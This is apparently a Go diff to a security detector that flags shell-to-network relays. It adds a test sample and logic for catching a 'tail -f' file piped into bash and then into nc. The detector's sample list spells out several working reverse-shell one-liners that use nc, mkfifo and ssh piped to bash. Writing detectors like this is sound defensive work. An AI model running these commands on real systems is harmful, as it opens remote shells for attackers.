@@ -38,7 +38,7 @@ var shellNetRelay = Detector{
 		"ssh a@198.51.100.7 'tail -f in' | bash | ssh a@198.51.100.7 'cat > out'",
 		"mkfifo x; nc 198.51.100.7 9 <x | bash >x 2>&1",
 		"cp /bin/nc /tmp/n; mkfifo /tmp/f; /bin/bash < /tmp/f | /tmp/n 198.51.100.7 1 > /tmp/f",
-	), Sample{Level: coi.High, Events: graphSample(
+	), Sample{Level: coi.High, Line: "tail -f /mnt/s/in | bash 2>&1 | nc 198.51.100.7 99"}, Sample{Level: coi.High, Events: graphSample(
 		wiring.Node{PID: 2, Class: "interpreter", Argv: []string{"node", "-e", "x"}, FDs: []wiring.FD{
 			{N: 10, Kind: wiring.Pipe, ID: "1", Write: true}, {N: 11, Kind: wiring.Pipe, ID: "2", Read: true}, outSock(12, "s"),
 		}},
@@ -69,6 +69,9 @@ func predictedRelay(v track.View) []Finding {
 		}
 		in := reach(c, s, true)
 		out := reach(c, s, false)
+		if out != nil && in == nil && s.Class() == program.Shell && out.Class() == program.Relay && outHost(out) != "" && !loopbackOnly(out) && slices.ContainsFunc(s.Stdin, follows) {
+			return one(*say(s, coi.High, "shell that follows a file answers to the network").to(outHost(out)))
+		}
 		if in == nil || out == nil {
 			continue
 		}
@@ -80,6 +83,9 @@ func predictedRelay(v track.View) []Finding {
 	}
 	return nil
 }
+
+// follows reports tail -f, by which a file is a channel.
+func follows(s *command.Simple) bool { return s.Name == "tail" && s.Parsed().Has("f", "F", "follow") }
 
 // reach follows pipes and files from a command to a network tool: upstream, or
 // downstream.
